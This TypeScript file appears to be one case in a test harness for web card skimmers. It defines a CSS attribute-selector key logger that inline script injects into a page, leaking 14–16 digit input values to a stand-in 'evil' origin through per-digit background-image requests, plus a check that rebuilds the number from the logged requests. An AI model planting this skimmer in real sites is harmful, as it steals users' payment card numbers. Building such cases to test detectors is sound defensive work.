import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';

export default skimmer({
  id: 'css-attribute-selectors',
  why: 'Digits are written into attributes, and a style sheet loads one background per place and digit: no script sends anything (published CSS key loggers).',
  covers: ['sending: stylesheet', 'hard: unusual channel', 'reading: every input'],
  base: 'direct',
  install: (site) =>
    site.inline(js`(function () {
  var style = document.createElement('style'), css = '', layers = [];
  for (var i = 0; i < 16; i++) {
    layers.push('var(--p' + i + ',none)');
    for (var d = 0; d < 10; d++) css += '[data-p' + i + '="' + d + '"]{--p' + i + ':url(${site.origins.evil}/c/' + i + '/' + d + '.png)}';
  }
  style.textContent = css + '[data-p0]{background-image:' + layers.join(',') + '}';
  document.head.append(style);
  document.querySelectorAll('input').forEach(function (input) {
    input.addEventListener('input', function () {
      if (!/^[0-9]{14,16}$/.test(input.value)) return;
      Array.from(input.value).forEach(function (d, i) { input.setAttribute('data-p' + i, d); });
    });
  });
})();`),
  proof: holds((arrived) => {
    const places = new Map<number, string>();
    for (const { url } of at(arrived, 'evil')) {
      const [, place, digit] = /^\/c\/(\d+)\/(\d)\.png$/.exec(url.pathname) ?? [];
      if (digit !== undefined) places.set(Number(place), digit);
    }
    return [Array.from({ length: 16 }, (_, i) => places.get(i) ?? '').join('')];
  }),
});
